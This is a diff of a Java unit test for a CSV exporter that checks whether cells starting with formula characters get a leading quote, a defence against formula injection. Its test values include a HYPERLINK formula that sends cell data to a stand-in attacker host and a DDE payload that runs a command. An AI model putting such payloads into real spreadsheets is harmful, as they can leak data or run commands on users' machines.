@@ -16,15 +16,15 @@ class CsvExportTest {
     static final String HOSTILE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Soylent\")";
 
     @ParameterizedTest
-    @ValueSource(strings = {HOSTILE, "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
-        "-", "+", "=", "@", "-1e", "-.", "-Infinity", "-NaN", "-0x10", "-1,5", "-1 000", "+35 (n = 9)"})
+    @ValueSource(strings = { HOSTILE, "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-",
+            "+", "=", "@", "-1e", "-.", "-Infinity", "-NaN", "-0x10", "-1,5", "-1 000", "+35 (n = 9)" })
     void a_cell_a_spreadsheet_could_run_as_a_formula_gets_a_leading_quote(String text) {
         assertThat(CsvExport.cell(text)).isEqualTo("'" + text);
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"-100.000", "-75", "+35", "-0.5", "-.5", "-3.", "-1e-3", "+2E+10", "12", "Soylent",
-        "a=b", "Acme -1", "", "'=already quoted", " =1+1"})
+    @ValueSource(strings = { "-100.000", "-75", "+35", "-0.5", "-.5", "-3.", "-1e-3", "+2E+10", "12", "Soylent", "a=b",
+            "Acme -1", "", "'=already quoted", " =1+1" })
     void plain_numbers_and_cells_not_starting_with_a_formula_character_stay_as_they_are(String text) {
         assertThat(CsvExport.cell(text)).isEqualTo(text);
     }
@@ -47,4 +47,5 @@ class CsvExportTest {
         assertThat(records.get(1).toList()).containsExactly("'" + HOSTILE, "-40");
         assertThat(records.get(2).toList()).containsExactly("Quote \"and\", comma\r\nnew line", "");
     }
+
 }
